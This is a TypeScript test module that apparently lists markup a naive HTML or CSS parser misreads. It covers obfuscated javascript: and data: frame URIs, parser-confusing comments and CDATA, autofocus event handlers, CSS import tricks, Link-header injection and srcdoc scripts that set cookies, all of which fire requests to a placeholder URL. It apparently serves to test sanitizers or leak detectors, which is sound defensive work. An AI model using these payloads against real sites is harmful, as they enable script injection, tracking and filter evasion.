/** Markup that a simple reader of HTML, CSS or addresses takes for something else than a browser does. */
import { html, srcdocRealm, type Way } from './way.js';

const hidden = '<iframe title="f" src="';

/** How tags, comments and attributes are written. */
export const oddTags: readonly Way[] = [
  html('odd-attributes', 'gif', '<img/alt=""/=x"y src\n= {url} >'),
  html('odd-references', 'gif', '<img alt="" src="&#x68&#116&#x74&#112:{frame}">'),
  html('odd-comment', 'gif', '<!--><img alt="" src="{url}"><!-- -->'),
  html('odd-comment-bang', 'gif', '<!-- --!><img alt="" src="{url}"><!-- -->'),
  html(
    'odd-cdata',
    'gif',
    '<svg width="9" height="9"><![CDATA[<x a="]]><image href="{url}" width="9" height="9"/></svg>',
  ),
  html('odd-cdata-in-html', 'gif', '<![CDATA[ x="> <img alt="" src="{url}"> "]]>'),
  html('odd-instruction', 'gif', '<?x a="> <img alt="" src="{url}"> ?>'),
  html(
    'odd-svg-title',
    'gif',
    '<svg width="9" height="9"><title><style><!--</style><img alt="" src="{url}">--></title></svg>',
  ),
  html('odd-svg-leaves', 'gif', '<svg width="9" height="9"><style><p><img alt="" src="{url}"></p></style></svg>'),
  html('odd-select', 'gif', '<select><option><img alt="" src="{url}"></option></select>'),
  html('odd-select-comment', 'js', '<select><style><!--</style><script src="{url}"></script>--></style></select>'),
  html('background-column', 'gif', '<table><col background="{url}"><tr><td>x</table>'),
  html('svg-mask', 'gif', '<svg width="9" height="9"><rect width="9" height="9" mask="url({url})"/></svg>'),
  html(
    'svg-animated-paint',
    'gif',
    '<svg width="9" height="9"><rect width="9" height="9"><set attributeName="mask" to="url({url})"/></rect></svg>',
  ),
  html(
    'video-playlist',
    'ts',
    '<video preload="auto" muted src="data:application/vnd.apple.mpegurl,%23EXTM3U%0A%23EXT-X-TARGETDURATION:1%0A%23EXTINF:1,%0A{url}%0A%23EXT-X-ENDLIST"></video>',
  ),
  html('handler-focus', 'gif', '<input autofocus onfocus="new Image().src=\'{url}\'">'),
  html('handler-focus-inside', 'gif', '<div onfocusin="new Image().src=\'{url}\'"><input autofocus></div>', undefined, {
    alone: true,
  }),
  html(
    'handler-selection',
    'gif',
    '<input autofocus value="x" onselectionchange="new Image().src=\'{url}\'">',
    undefined,
    {
      alone: true,
    },
  ),
  html('handler-marquee', 'gif', '<marquee onstart="new Image().src=\'{url}\'">x</marquee>'),
  html(
    'handler-visibility',
    'gif',
    // Always in view: frames that go with a withdrawal would bring it there later.
    '<div style="content-visibility: auto; position: fixed; top: 0" oncontentvisibilityautostatechange="new Image().src=\'{url}\'">x</div>',
  ),
  html(
    'handler-slot',
    'gif',
    '<div><template shadowrootmode="open"><slot onslotchange="new Image().src=\'{url}\'"></slot></template>x</div>',
  ),
];

/** Documents in frames whose address hides what they are. */
export const oddFrames: readonly Way[] = [
  html('frame-data-tab', 'gif', `${hidden}da&#9;ta:text/html,<img src={url}>"></iframe>`),
  html('frame-data-control', 'gif', `${hidden}&#1;data:text/html,<img src={url}>"></iframe>`),
  html('frame-javascript-lines', 'gif', `${hidden}java&#10;script:'<img src={url}>'"></iframe>`),
  html(
    'frame-data-sheet',
    'gif',
    `${hidden}data:text/xsl,<html xmlns='http://www.w3.org/1999/xhtml'><body><img src='{url}'/></body></html>"></iframe>`,
  ),
  html(
    'frame-data-nested',
    'gif',
    `${hidden}data:text/html,<iframe src='data:text/html,<img src={url}>'></iframe>"></iframe>`,
  ),
  html(
    'frame-refresh-data',
    'gif',
    '<iframe title="f" srcdoc="<meta http-equiv=refresh content=\'0;url=data:text/html,<img src={url}>\'>"></iframe>',
  ),
  html('script-data-tab', 'gif', '<script src="da&#9;ta:text/javascript,new Image().src=\'{url}\'"></script>'),
  html(
    'realm-parsed',
    'txt',
    '<iframe title="f" name="leak-parsed"></iframe><script>window["leak-parsed"].fetch("{url}").catch(() => {})</script>',
  ),
  html(
    'frame-data-prefix',
    'gif',
    `${hidden}data:application/xhtml+xml,<h:html xmlns:h=&quot;http://www.w3.org/1999/xhtml&quot;><h:img src=&quot;{url}&quot;/></h:html>"></iframe>`,
  ),
  html(
    'frame-data-short',
    'gif',
    `${hidden}data:application/xhtml+xml,<html xmlns=&quot;http://www.w3.org/1999/xhtml&quot;><title/><img src=&quot;{url}&quot;/></html>"></iframe>`,
  ),
  html(
    'frame-data-entity',
    'gif',
    `${hidden}data:application/xhtml+xml,<!DOCTYPE html [<!ENTITY u &quot;{url}&quot;>]><html xmlns=&quot;http://www.w3.org/1999/xhtml&quot;><img src=&quot;%26u;&quot;/></html>"></iframe>`,
  ),
];

/** Style sheets. */
export const oddStyles: readonly Way[] = [
  html('style-typed-ahead', 'css', '<style type="text/plain">@import "{url}";</style>', null),
  html('style-svg-entity', 'css', '<svg width="9" height="9"><style>@import "{url}";/*&amp;*/</style></svg>', null),
  html('style-select-svg', 'css', '<select><svg><style>@import "{url}";</style></svg></select>', null),
  html('style-escaped-letters', 'css', '<style>@import "\\http:{frame}";</style>'),
  html('style-escaped-break', 'gif', '<style>.o1 { background: url("http:\\\n{frame}") }</style><p class="o1">x</p>'),
  html('style-import-data', 'css', '<style>@import "data:text/css,@import url({url});";</style>'),
  html(
    'style-namespace',
    'gif',
    '<style>@namespace leak {} .o2 { background: url("{url}") }</style><p class="o2">x</p>',
  ),
  html(
    'style-image-set-nested',
    'gif',
    '<style>.o3 { background: image-set(linear-gradient(rgb(calc(1 + 1), 2, 3), red) 9x, "{url}" 1x) }</style><p class="o3">x</p>',
  ),
  html(
    'style-image-set-variable',
    'gif',
    '<style>.o4 { --o4: "{url}"; background: image-set(var(--o4) 1x) }</style><p class="o4">x</p>',
  ),
  html(
    'style-broken-string',
    'gif',
    '<style>.o6 { content: "\n} .o7 { quotes: "/*" "x" } .o8 { background: url("{url}") } /*"*/</style><p class="o8">x</p>',
  ),
  html(
    'style-property-initial',
    'gif',
    '<style>@property --o9 { syntax: "*"; inherits: false; initial-value: "{url}" } .o9 { background: image-set(var(--o9) 1x) }</style><p class="o9">x</p>',
  ),
  html(
    'style-function-result',
    'gif',
    '<style>@function --o10() { result: "{url}" } .o10 { background: image-set(--o10()) }</style><p class="o10">x</p>',
  ),
  html(
    'style-function-argument',
    'gif',
    '<style>@function --o11(--o) { result: image-set(var(--o) 1x) } .o11 { background: --o11("{url}") }</style><p class="o11">x</p>',
  ),
];

/** Headers of the page, and of what belongs to it. */
export const oddHeaders: readonly Way[] = [
  {
    id: 'header-preload-set',
    ext: 'gif',
    headers: { link: '<own.gif>; rel=preload; as=image; imagesrcset="{url} 1x"' },
    marked: null,
  },
  {
    id: 'header-preconnect-escaped',
    ext: 'txt',
    headers: { link: '<{url}>; rel="pre\\connect"' },
    marked: null,
    port: 'connection',
  },
  html('header-of-sheet', 'js', '<link rel="stylesheet" href="linked.css?<{url}>; rel=preload; as=script">', null),
  html('header-of-sheet-connect', 'txt', '<link rel="stylesheet" href="linked.css?<{url}>; rel=preconnect">', null, {
    port: 'connection',
  }),
];

/** What parser-made frames keep. */
export const oddStorage: readonly Way[] = [
  html(
    'cookie-srcdoc-parsed',
    'none',
    '<iframe title="f" srcdoc="<script>document.cookie=\'leak_{id}={view}; path=/\'</script>"></iframe>',
    undefined,
    { unstoppable: srcdocRealm },
  ),
  html(
    'local-srcdoc-parsed',
    'none',
    '<iframe title="f" srcdoc="<script>localStorage.setItem(\'leak_{id}\', \'{view}\')</script>"></iframe>',
    undefined,
    { unstoppable: srcdocRealm },
  ),
  html(
    'cookie-frame-parsed',
    'none',
    '<iframe title="f" name="leak-parsed-2"></iframe><script>window["leak-parsed-2"].document.cookie = "leak_{id}={view}; path=/"</script>',
  ),
];
